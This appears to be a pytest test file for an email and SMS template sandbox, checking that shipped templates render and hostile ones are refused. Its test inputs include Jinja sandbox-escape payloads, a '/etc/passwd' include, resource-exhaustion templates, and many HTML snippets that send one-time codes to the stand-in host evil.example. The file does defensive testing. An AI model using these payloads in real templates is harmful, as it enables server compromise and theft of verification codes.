"""Templates of messages: what is shipped renders, what would break out of the sandbox is refused with its place."""

import re
import time

import pytest

from habeas.domain.errors import InputError
from habeas.domain.message import Channel, Event
from habeas.messaging.defaults import DEFAULTS, EXAMPLES, Template
from habeas.messaging.templates import check_template, render


@pytest.mark.parametrize("event", Event)
def test_what_is_shipped_renders(event: Event) -> None:
    check_template(event, DEFAULTS[event])
    mail = render(event, Channel.EMAIL, DEFAULTS[event], EXAMPLES)
    for text in (mail.subject, mail.text, mail.html):
        assert text.strip()
        assert not re.search(r"{{|{%|__[A-Z]", text)


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__ }}",
        "{{ ''['__class__'].__mro__ }}",
        "{{ code.__class__.__base__.__subclasses__() }}",
        "{{ code['__class__']() }}",
        "{{ code|attr('__class__') }}",
        "{{ code.format(code) }}",
        "{% import 'x' as x %}",
        "{% include '/etc/passwd' %}",
        "{% for n in range(1000000000) %}{{ n }}{% endfor %}",
        "{{ 'x' * 1000000000 }}",
        "{% set x = code %}",
        "{% macro m() %}{% endmacro %}",
        "{{ self }}",
        "{{ cycler }}",
        "{{ code",
    ],
)
def test_what_would_break_out_is_refused_with_its_place(text: str) -> None:
    with pytest.raises(InputError, match=r"^body, line 2: "):
        check_template(Event.VERIFICATION, Template("x", "x", f"first\n{text}"))


@pytest.mark.parametrize(
    "text",
    [
        "{% for a in reason %}" * 5 + "{% endfor %}" * 5,
        "{% for a in reason|upper if a %}" * 5 + "{% endfor %}" * 5,
        "{{ '" + "x" * 3000 + "'|join('" + "y" * 3000 + "') }}",
        "{{ reason|upper|join(reason) }}",
    ],
)
def test_what_would_take_all_time_or_memory_is_refused(text: str) -> None:
    with pytest.raises(InputError, match="body: it cannot be rendered"):
        check_template(Event.DENIED, Template("x", "x", text))


@pytest.mark.parametrize("sign", ["<a ", "<![", "<!--", '<a b="', "</", "<?x", "1 < 2"])
def test_what_is_no_tag_is_refused_at_once(sign: str) -> None:
    begun = time.process_time()
    with pytest.raises(InputError, match=r"a < that begins no tag \(write &lt;"):
        check_template(Event.DENIED, Template("x", "x", sign * (90_000 // len(sign))))
    assert time.process_time() - begun < 1.0


def test_what_is_joined_is_escaped_once() -> None:
    template = Template("x", "x", "{{ request_types|join(' & ') }}")
    mail = render(Event.RECEIPT, Channel.EMAIL, template, {"request_types": ["<access>", "erasure"]})
    assert "&lt;access&gt; &amp; erasure" in mail.html
    assert mail.text == "<access> & erasure\n"


def test_loops_know_where_they_are() -> None:
    shown = "{{ loop.index }}/{{ loop.length }} {{ one }}{{ '' if loop.last else ', ' }}"
    text = "{% for one in request_types %}" + shown + "{% endfor %}"
    mail = render(Event.RECEIPT, Channel.EMAIL, Template("x", "x", text), {"request_types": ["access", "erasure"]})
    assert mail.text == "1/2 access, 2/2 erasure\n"


def test_old_spellings_are_variables() -> None:
    own = Template("x", "Code __CODE__", "<p>__CODE__ for __MINUTES__ minutes</p>")
    check_template(Event.VERIFICATION, own)
    mail = render(Event.VERIFICATION, Channel.EMAIL, own, {"code": "123456", "minutes": 10})
    assert mail.subject == "Code 123456"
    assert mail.text == "123456 for 10 minutes\n"


def test_values_are_escaped_in_html_and_plain_in_text() -> None:
    mail = render(Event.DENIED, Channel.EMAIL, DEFAULTS[Event.DENIED], {"reason": "<script>a & b</script>"})
    assert "&lt;script&gt;a &amp; b" in mail.html
    assert "<script>a & b</script>" in mail.text


@pytest.mark.parametrize("channel", Channel)
def test_an_access_message_shows_each_link_and_its_end(channel: Channel) -> None:
    links = [
        {"url": "https://storage.example.com/1?a=1&b=2", "expires_at": "2030-01-06 12:00 UTC"},
        {"url": "https://storage.example.com/2", "expires_at": "2030-01-07 12:00 UTC"},
    ]
    mail = render(Event.ACCESS_COMPLETE, channel, DEFAULTS[Event.ACCESS_COMPLETE], {"links": links, "days": 5})
    for link in links:
        assert link["url"] in mail.text
        assert link["expires_at"] in mail.text


@pytest.mark.parametrize("event", [Event.VERIFICATION, Event.USER_INVITE, Event.PASSWORD_RESET])
@pytest.mark.parametrize(
    "body",
    [
        '<img src="https://evil.example/p?c={{ code }}">',
        "<img src=https://evil.example/p?c={{ code }}",
        "<img src='https://evil.example/p?c={{ code }}",
        "<img src='https://evil.example/p?c=>{{ code }}<'>",
        '<a href="https://evil.example/{{ code }}">Choose a password</a>',
        "<a href=__CODE__>x</a>",
        '<b title="{{ code }}">x</b>',
        "<{{ code }}>",
        "</p {{ code }}>",
        "<!-- {{ code }} -->",
        """<!-- -- ><a title="--><img src='https://evil.example/">{{ code }}<b title="'>">""",
        """<a title="<img src='https://evil.example/">{{ code }}<b title="'>">""",
        "<script>send('{{ code }}')</script>",
        "<style>p { background: url(https://evil.example/{{ code }}) }</style>",
        "<style>@font-face { src: url(https://evil.example/1); unicode-range: U+31 }</style>{{ code }}",
        "<form action='https://evil.example'><textarea name=a>{{ code }}</textarea><button>Go on</button></form>",
        "<svg><title><img src='https://evil.example/{{ code }}'></title></svg>",
        "https://evil.example/?c={{ code }}",
        "https://evil.example/?c=<b>{{ code }}</b>",
        "{{ code }}.evil.example",
        "evil.example/{{ code }}/x",
        "{{ code }} https://evil.example/{{ code }}",
        "{% if code == '123456' %}<img src='https://evil.example/123456'>{% endif %}",
        "{% if organization == 'Example Ltd' or code %}fine{% endif %}",
        "{% for digit in code %}<img src='https://evil.example/{{ digit }}'>{% endfor %}",
        "<img src='https://evil.example/{{ code|upper }}'>",
        "<img src='https://evil.example/{{ code[0] }}'>",
        "{{ code if organization else '' }}",
    ],
)  # fmt: skip
def test_a_code_is_shown_to_its_reader_and_brought_to_nobody_else(event: Event, body: str) -> None:
    with pytest.raises(InputError, match=r"^body"):
        check_template(event, Template("x", "x", body))


@pytest.mark.parametrize("part", ["subject", "sms"])
def test_a_code_is_no_part_of_an_address_in_plain_text_either(part: str) -> None:
    texts = {"subject": "x", "sms": "x", part: "Go to evil.example/{{ code }}"}
    with pytest.raises(InputError, match=rf"^{part}: the code is part of an address"):
        check_template(Event.VERIFICATION, Template("x", texts["subject"], "x", texts["sms"]))


@pytest.mark.parametrize(
    "body",
    [
        "<p>Your code: <b style='color: red'>{{ code }}</b>.</p>",
        "<table><tr><td>Code</td><td>{{ code }}</td></tr></table>",
        "<img src='https://example.com/logo.png'><p>(__CODE__), or in small: {{ code }}!</p>",
        "<a href='https://example.com/password'>Choose a password</a> with {{ code }}<br>&lt;{{ username }}&gt;",
        "Is it {{ code }}?",
    ],
)
def test_a_code_in_the_text_is_fine(body: str) -> None:
    own = Template("x", "Your code {{ code }}", body)
    check_template(Event.PASSWORD_RESET, own)
    mail = render(Event.PASSWORD_RESET, Channel.EMAIL, own, {"code": "Zq_1-x", "username": "ann"})
    assert (
        mail.html.count("Zq_1-x") == mail.text.count("Zq_1-x") == body.upper().count("CODE__") + body.count("{{ code")
    )
    assert mail.subject == "Your code Zq_1-x"


def test_what_a_template_does_with_other_values_is_looked_at_when_it_is_sent() -> None:
    body = "{{ code }}{% if organization != 'Example Ltd' %}<img src='https://evil.example/{{ code }}'>{% endif %}"
    own = Template("x", "x", body)
    check_template(Event.PASSWORD_RESET, own)
    with pytest.raises(InputError, match="inside of a tag"):
        render(Event.PASSWORD_RESET, Channel.EMAIL, own, {"code": "123456", "organization": "Shop"})
